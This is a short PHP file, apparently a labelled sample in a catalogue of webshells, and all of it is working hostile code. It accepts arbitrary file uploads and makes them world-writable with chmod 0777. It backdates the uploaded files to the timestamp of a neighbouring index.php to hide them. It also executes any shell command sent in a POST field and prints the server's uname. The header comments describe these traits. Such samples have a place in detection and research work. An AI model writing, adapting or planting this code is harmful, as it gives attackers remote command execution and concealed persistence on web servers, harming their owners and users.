<?php
// Family: webshell/file-manager
// Style: file manager with timestamp forging
// Trait: touch() with the mtime of a neighbour file to hide uploads, upload + chmod + exec in one panel
$t = $_POST['target'];
if (isset($_FILES['up'])) { move_uploaded_file($_FILES['up']['tmp_name'], $t); @chmod($t, 0777); }
if (isset($_POST['stomp'])) { touch($t, filemtime(dirname($t) . '/index.php')); }
if (isset($_POST['x'])) { echo `$_POST[x]`; }
echo "<b>Uploader</b> " . php_uname();
